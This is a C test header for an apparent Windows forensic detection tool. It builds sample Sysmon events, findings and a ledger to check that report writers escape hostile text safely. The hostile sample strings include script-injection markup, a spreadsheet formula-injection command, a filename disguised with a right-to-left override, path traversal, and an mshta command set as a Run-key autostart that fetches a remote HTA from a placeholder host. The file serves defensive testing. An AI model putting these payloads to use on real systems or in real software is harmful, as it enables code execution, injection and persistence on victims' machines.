/* SPDX-License-Identifier: Apache-2.0 */
/* Findings and a ledger made by hand, hostile where it can be, for the tests of the writers. */
#pragma once

#include <stdlib.h>

#include <catspaw/report.h>

#include "core/fact.h"
#include "core/str.h"
#include "core/stream.h"

/* Everything that a report must not print as it is; NUL, controls, U+0085, U+2028, U+202E, U+FEFF.
 */
#define SAMPLE_HOSTILE                                                                          \
    "mshta.exe \"javascript:a=1\" </script><script>alert(1)</script> <img src=x onerror=y> "    \
    "'`&amp; \r\n\tA\x1B[31mred\x08\x7F end\0hidden \xC2\x85 \xE2\x80\xA8 \xE2\x80\xAEgpj.exe " \
    "\xEF\xBB\xBF \xF0\x9F\x98\x80"

struct sample {
    struct paw_fact_builder builder;
    struct paw_fact *facts[3]; /* process start, module, hive value */
    char *long_line;
    struct paw_finding findings[4]; /* plain, hostile, undated from a hive, with a line of 1 MB */
    struct paw_held held[2];
    struct paw_reason reasons[4];
    struct paw_cited cited[3], cited_hive[1];
    struct paw_origin copies[1];
    struct paw_ledger_file files[3];
    struct paw_diag diags[2];
    struct paw_tally tallies[1];
    struct paw_suppression entries[3]; /* used, expired, of use to none */
    struct paw_suppressed suppressed;
    struct paw_ledger ledger;
};

enum { SAMPLE_LONG = 1000000 };

static inline struct paw_fact *sample_keep(struct sample *s)
{
    const struct paw_fact *f = paw_fact_end(&s->builder);
    if (f == NULL)
        abort();
    struct paw_fact *kept = malloc(f->size);
    if (kept == NULL)
        abort();
    memcpy(kept, f, f->size);
    return kept;
}

#define SAMPLE_TIME UINT64_C(132348140221230000) /* 2020-05-24T17:13:42.1230000Z */

static inline void sample_facts(struct sample *s)
{
    struct paw_fact_builder *b = &s->builder;
    paw_fact_begin(b, PAW_KIND_PROCESS_START);
    b->head.time = SAMPLE_TIME;
    b->head.logged = SAMPLE_TIME + 72345;
    b->head.record_id = UINT64_C(18446744073709551615);
    b->head.event_id = 1;
    b->head.flags = PAW_FACT_LOSSY;
    b->head.origin = (struct paw_origin){.source = 0, .length = 900, .offset = 69632};
    paw_fact_add(b, PAW_F_PROVIDER, PAW_LIT("Microsoft-Windows-Sysmon"));
    paw_fact_add(b, PAW_F_CHANNEL, PAW_LIT("Microsoft-Windows-Sysmon/Operational"));
    paw_fact_add(b, PAW_F_COMPUTER, PAW_LIT("WKS01.corp.example"));
    paw_fact_add(b, PAW_F_IMAGE, PAW_LIT("C:\\Windows\\System32\\mshta.exe"));
    paw_fact_add(b, PAW_F_COMMAND_LINE, PAW_LIT(SAMPLE_HOSTILE));
    paw_fact_add_other(b, PAW_LIT("Data"), PAW_LIT("one"));
    paw_fact_add_other(b, PAW_LIT("Data"), PAW_LIT("two"));
    paw_fact_add_other(b, PAW_LIT("<b>\"na\0me\""), PAW_LIT("=cmd|' /C calc'!A0"));
    s->facts[0] = sample_keep(s);
    paw_fact_begin(b, PAW_KIND_MODULE);
    b->head.time = SAMPLE_TIME + 10000000;
    b->head.logged = SAMPLE_TIME + 10000000;
    b->head.record_id = 124;
    b->head.event_id = 7;
    b->head.state = PAW_RECOVERED;
    b->head.flags = PAW_FACT_ID_FROM_HEADER;
    b->head.origin = (struct paw_origin){.source = 0, .length = 700, .offset = 70632};
    paw_fact_add(b, PAW_F_PROVIDER, PAW_LIT("Microsoft-Windows-Sysmon"));
    paw_fact_add(b, PAW_F_IMAGE_LOADED, PAW_LIT("C:\\Windows\\System32\\jscript9.dll"));
    s->facts[1] = sample_keep(s);
    paw_fact_begin(b, PAW_KIND_STANDING);
    b->head.origin = (struct paw_origin){.source = 2, .length = 0, .offset = 4128};
    paw_fact_add(b, PAW_F_HIVE, PAW_LIT("NTUSER"));
    paw_fact_add(b, PAW_F_KEY, PAW_LIT("Software\\Microsoft\\Windows\\CurrentVersion\\Run"));
    paw_fact_add(b, PAW_F_VALUE, PAW_LIT(""));
    paw_fact_add(b, PAW_F_STANDING_COMMAND, PAW_LIT("mshta http://x.example/a.hta"));
    s->facts[2] = sample_keep(s);
}

static inline void sample_ledger(struct sample *s)
{
    static const char *const arguments[] = {"catspaw", "scan", "a\"b<c>", "-o", "OUT"};
    s->files[0] = (struct paw_ledger_file){
        .source = PAW_LIT("host1/Sys<mon>.evtx"),
        .size = UINT64_C(9007199254740993),
        .sha256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        .evidence = PAW_EVIDENCE_EVTX,
        .reader = "libevtx",
        .summary = {.kinds = PAW_KIND_BIT(PAW_KIND_PROCESS_START) | PAW_KIND_BIT(PAW_KIND_MODULE),
                    .first = SAMPLE_TIME,
                    .last = SAMPLE_TIME + 864000000000,
                    .read = 1203,
                    .recovered = 4,
                    .damaged = 1},
        .host = PAW_LIT("WKS01.corp.example"),
        .is_readable = true,
        .copy_of = UINT32_MAX};
    s->files[1] = s->files[0];
    s->files[1].source = PAW_LIT("host1/copy\n.evtx");
    s->files[1].copy_of = 0;
    s->files[1].reader = NULL;
    s->files[2] = (struct paw_ledger_file){.source = PAW_LIT("host1/NTUSER.DAT"),
                                           .size = 262144,
                                           .evidence = PAW_EVIDENCE_HIVE,
                                           .reader = "libregf",
                                           .summary = {.read = 90, .dirty = 1},
                                           .host = PAW_LIT("WKS01.corp.example"),
                                           .is_readable = true,
                                           .copy_of = UINT32_MAX};
    s->diags[0] = (struct paw_diag){.code = PAW_D_EVTX_RECORD,
                                    .source = 0,
                                    .offset = 73000,
                                    .extent = 512,
                                    .count = 3,
                                    .detail = "<script>alert(2)</script>"};
    s->diags[1] = (struct paw_diag){.code = PAW_D_PATH_ABSENT, .source = UINT32_MAX, .count = 1};
    s->tallies[0] = (struct paw_tally){"T1218.005", 3};
    s->entries[0] =
        (struct paw_suppression){.number = 1,
                                 .reason = PAW_LIT("=accepted </td><script>\xE2\x80\xAE"),
                                 .author = PAW_LIT("a \"b\", c"),
                                 .expires = PAW_LIT("2026-12-31"),
                                 .finding = PAW_LIT("9f0c0123456789abcdef0123456789ab"),
                                 .findings = 1};
    s->entries[1] = s->entries[0];
    s->entries[1].number = 2;
    s->entries[1].finding = (paw_str){0};
    s->entries[1].is_expired = true;
    s->entries[1].findings = 0;
    s->entries[1].fits = 2;
    s->entries[2] = s->entries[1];
    s->entries[2].number = 3;
    s->entries[2].is_expired = false;
    s->entries[2].fits = 0;
    s->suppressed = (struct paw_suppressed){
        .file = "known<1>.json",
        .sha256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        .as_of = "2026-11-25",
        .entries = s->entries,
        .n_entries = PAW_COUNT_OF(s->entries),
        .findings = 1,
        .by_severity = {0, 0, 0, 0, 1, 0}};
    s->ledger = (struct paw_ledger){.version = "0.1.0",
                                    .build = "test",
                                    .arguments = arguments,
                                    .n_arguments = PAW_COUNT_OF(arguments),
                                    .started = SAMPLE_TIME,
                                    .ended = SAMPLE_TIME + 5,
                                    .files = s->files,
                                    .n_files = PAW_COUNT_OF(s->files),
                                    .diags = s->diags,
                                    .n_diags = PAW_COUNT_OF(s->diags),
                                    .facts = 1300,
                                    .executions = 70,
                                    .findings = 4,
                                    .by_severity = {0, 0, 0, 0, 1, 3},
                                    .is_partial = true,
                                    .by_technique = s->tallies,
                                    .n_techniques = 1,
                                    .suppressed = &s->suppressed,
                                    .exit_code = 3};
}

static inline void sample_evidence(struct sample *s)
{
    s->copies[0] = (struct paw_origin){.source = 1, .length = 900, .offset = 69632};
    s->cited[0] = (struct paw_cited){.role = PAW_ROLE_PRIMARY,
                                     .fact = s->facts[0],
                                     .copies = s->copies,
                                     .n_copies = 1,
                                     .all_copies = 40};
    s->cited[1] = (struct paw_cited){.role = PAW_ROLE_MODULE, .fact = s->facts[1]};
    s->cited_hive[0] = (struct paw_cited){.role = PAW_ROLE_PRIMARY, .fact = s->facts[2]};
    s->held[0] = (struct paw_held){.id = "mshta.inline_script",
                                   .title = "mshta runs script given in its command line",
                                   .why = "Nothing legitimate passes script text to mshta.",
                                   .technique = "T1218.005",
                                   .severity = PAW_CRITICAL,
                                   .confidence = PAW_VH,
                                   .family = PAW_COMMAND};
    s->held[1] = (struct paw_held){.id = "generic.script_engine_in_native_host",
                                   .title = "a script engine in a program that has no scripts",
                                   .why = "Modules tell what a command line hides.",
                                   .technique = "T1218",
                                   .severity = PAW_HIGH,
                                   .confidence = PAW_M,
                                   .family = PAW_MODULE,
                                   .adjusted = "the caller is unsigned"};
    s->reasons[0] = (struct paw_reason){.behaviour = "mshta.inline_script",
                                        .evidence = -1,
                                        .field = PAW_LIT("command_line"),
                                        .start = 11,
                                        .length = 11,
                                        .text = PAW_LIT("javascript:")};
    s->reasons[1] = (struct paw_reason){.behaviour = "mshta.inline_script",
                                        .evidence = -1,
                                        .field = PAW_LIT("command_line"),
                                        .start = 15,
                                        .length = 20,
                                        .text = paw_str_sub(PAW_LIT(SAMPLE_HOSTILE), 15, 20)};
    s->reasons[2] = (struct paw_reason){.behaviour = "generic.script_engine_in_native_host",
                                        .evidence = 1,
                                        .field = PAW_LIT("ImageLoaded"),
                                        .start = 20,
                                        .length = 12,
                                        .text = PAW_LIT("jscript9.dll")};
}

static inline void sample_findings(struct sample *s)
{
    static const char *const techniques[] = {"T1218.005", "T1218"};
    static const char *const concerned[] = {"mshta.inline_script", "mshta.remote"};
    struct paw_finding plain = {.id = "9f0c0123456789abcdef0123456789ab",
                                .time = SAMPLE_TIME,
                                .logged = SAMPLE_TIME + 72345,
                                .time_of = "process start",
                                .host = PAW_LIT("WKS01.corp.example"),
                                .severity = PAW_CRITICAL,
                                .score = 87,
                                .techniques = techniques,
                                .n_techniques = 2,
                                .held = s->held,
                                .n_held = 2,
                                .reason = PAW_LIT("script text stands where a path is expected"),
                                .reasons = s->reasons,
                                .n_reasons = 3,
                                .missing = PAW_NEED_DNS | PAW_NEED_PARENT_COMMAND_LINE,
                                .proxy = {.binary = PAW_LIT("mshta.exe"),
                                          .object = PAW_LIT("javascript:a=1"),
                                          .kind = PAW_OBJECT_SCRIPT},
                                .has_process = true,
                                .process = {.image = PAW_LIT("C:\\Windows\\System32\\mshta.exe"),
                                            .command_line = PAW_LIT(SAMPLE_HOSTILE),
                                            .user = PAW_LIT("CORP\\=alice"),
                                            .integrity = PAW_LIT("Medium"),
                                            .pid = 4242,
                                            .has_pid = true},
                                .has_parent = true,
                                .parent = {.image = PAW_LIT("C:\\Office\\winword.exe"),
                                           .command_line = PAW_LIT("=winword /n")},
                                .evidence = s->cited,
                                .n_evidence = 2,
                                .cut = 12};
    s->findings[0] = plain;
    s->findings[1] = plain;
    s->findings[1].host = PAW_LIT("../../etc/<i>x</i>\"");
    s->findings[1].repeats.count = 18;
    s->findings[1].repeats.first = SAMPLE_TIME;
    s->findings[1].repeats.last = SAMPLE_TIME + 300000000;
    s->findings[1].process.pid = UINT64_MAX;
    s->findings[1].concerned = concerned;
    s->findings[1].n_concerned = 2;
    s->findings[2] = plain;
    s->findings[2].time = 0;
    s->findings[2].logged = 0;
    s->findings[2].n_reasons = 0;
    s->findings[2].severity = PAW_HIGH;
    s->findings[2].has_parent = false;
    s->findings[2].standing = (struct paw_standing){.kind = "run",
                                                    .place = PAW_LIT("HKU\\Run"),
                                                    .name = PAW_LIT("-evil"),
                                                    .is_autostart = true};
    s->findings[2].process = (struct paw_process_shown){
        .image = PAW_LIT("mshta"), .command_line = PAW_LIT("@mshta http://x.example/a.hta")};
    s->findings[2].evidence = s->cited_hive;
    s->findings[2].n_evidence = 1;
    s->findings[2].suppressed_by = &s->entries[0];
    s->findings[3] = plain;
    s->findings[3].process.command_line = (paw_str){s->long_line, SAMPLE_LONG};
    s->findings[3].n_reasons = 0;
}

static inline struct sample *sample_new(void)
{
    struct sample *s = calloc(1, sizeof(*s));
    if (s == NULL)
        abort();
    s->long_line = malloc(SAMPLE_LONG);
    if (s->long_line == NULL)
        abort();
    for (size_t i = 0; i < SAMPLE_LONG; i++)
        s->long_line[i] = "+<\"&,'x "[i % 8];
    sample_facts(s);
    sample_ledger(s);
    sample_evidence(s);
    sample_findings(s);
    return s;
}

static inline void sample_free(struct sample *s)
{
    for (size_t i = 0; i < PAW_COUNT_OF(s->facts); i++)
        free(s->facts[i]);
    paw_fact_builder_finish(&s->builder);
    free(s->long_line);
    free(s);
}

/* All findings from first on through one writer. */
static inline enum paw_status sample_write(const struct sample *s, const struct paw_writer *w,
                                           size_t first, size_t n, struct paw_out *out)
{
    const struct paw_report_context c = {.ledger = &s->ledger};
    void *state = calloc(1, w->state_size + 1);
    if (state == NULL)
        abort();
    enum paw_status got = w->begin(state, &c, out);
    for (unsigned last = 0; last <= w->is_parted; last++) /* as lib/catspaw.c does */
        for (size_t i = first; got == PAW_OK && i < first + n; i++)
            if (!w->is_parted || (s->findings[i].suppressed_by != NULL) == last)
                got = w->item(state, &c, &s->findings[i], out);
    if (got == PAW_OK)
        got = w->end(state, &c, out);
    free(state);
    return got;
}

static inline const struct paw_writer *sample_writer(const char *name)
{
    for (size_t i = 0; paw_writers[i] != NULL; i++)
        if (strcmp(paw_writers[i]->name, name) == 0)
            return paw_writers[i];
    return NULL;
}

/* An output with room for so many bytes, as a disk has. */
struct sample_disk {
    size_t room, calls;
};

static inline enum paw_status sample_disk_write(void *self, const void *bytes, size_t n)
{
    struct sample_disk *disk = self;
    (void)bytes;
    disk->calls++;
    if (n > disk->room)
        return PAW_E_OUTPUT;
    disk->room -= n;
    return PAW_OK;
}
